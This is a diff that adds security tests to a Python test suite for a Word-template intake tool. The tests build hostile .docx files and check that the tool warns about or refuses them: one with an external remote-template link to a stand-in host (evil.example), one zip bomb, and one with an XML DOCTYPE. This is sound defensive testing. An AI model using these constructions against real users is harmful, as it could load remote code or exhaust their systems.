@@ -1,6 +1,8 @@
 """What `intake template` tells a person, and what it puts in force."""
 
+import io
 import json
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -8,6 +10,7 @@ import pytest
 from intake.adapters.profiles import load_profile
 from intake.cli.main import run_command
 from tests.readers import resaving
+from tests.readers.build import archive
 from tests.readers.samples import filled, template
 
 Told = pytest.CaptureFixture[str]
@@ -130,3 +133,39 @@ def test_a_template_for_liaison_statements_is_known(
     file = kept(tmp_path, "liaison.docx", template("L4"))
     assert typed(home, "inspect", file, *words) == 0
     assert ("Please look: It has a row 'For action to'" in capsys.readouterr().out) is told
+
+
+def with_link(content: bytes, kind: str, target: str) -> bytes:
+    """This Word file with one more relationship of its main part, which leads elsewhere."""
+    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    with zipfile.ZipFile(io.BytesIO(content)) as opened:
+        parts = {name: opened.read(name) for name in opened.namelist()}
+    link = f'<Relationship Id="rEvil" Type="{space}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    rels = "word/_rels/document.xml.rels"
+    parts[rels] = parts[rels].replace(b"</Relationships>", link.encode())
+    return archive(parts)
+
+
+def test_a_template_that_could_act_is_told(home: Path, tmp_path: Path, capsys: Told) -> None:
+    hostile = with_link(template("L1"), "attachedTemplate", "https://evil.example/x.dotm")
+    assert typed(home, "register", kept(tmp_path, "t.docx", hostile), "--group", "jca-mv") == 0
+    told = " ".join(capsys.readouterr().out.split())
+    assert "Please look: It holds what could act on the computer of whoever opens it (remote-template)" in told
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(archive({"[Content_Types].xml": "<Types/>", "word/document.xml": bytes(60_000_000)}), id="bomb"),
+        pytest.param(
+            archive({"[Content_Types].xml": "<!DOCTYPE x><Types/>", "word/document.xml": "<x/>"}), id="doctype"
+        ),
+    ],
+)
+def test_a_template_that_nobody_should_open_is_refused(
+    home: Path, tmp_path: Path, capsys: Told, content: bytes
+) -> None:
+    assert typed(home, "register", kept(tmp_path, "t.docx", content), "--group", "jca-mv") == 2
+    told = " ".join(capsys.readouterr().err.split())
+    assert "t.docx is no Word template that can be learned from (container). Take the empty template" in told
+    assert list((home / "templates").glob("*t.*")) == []
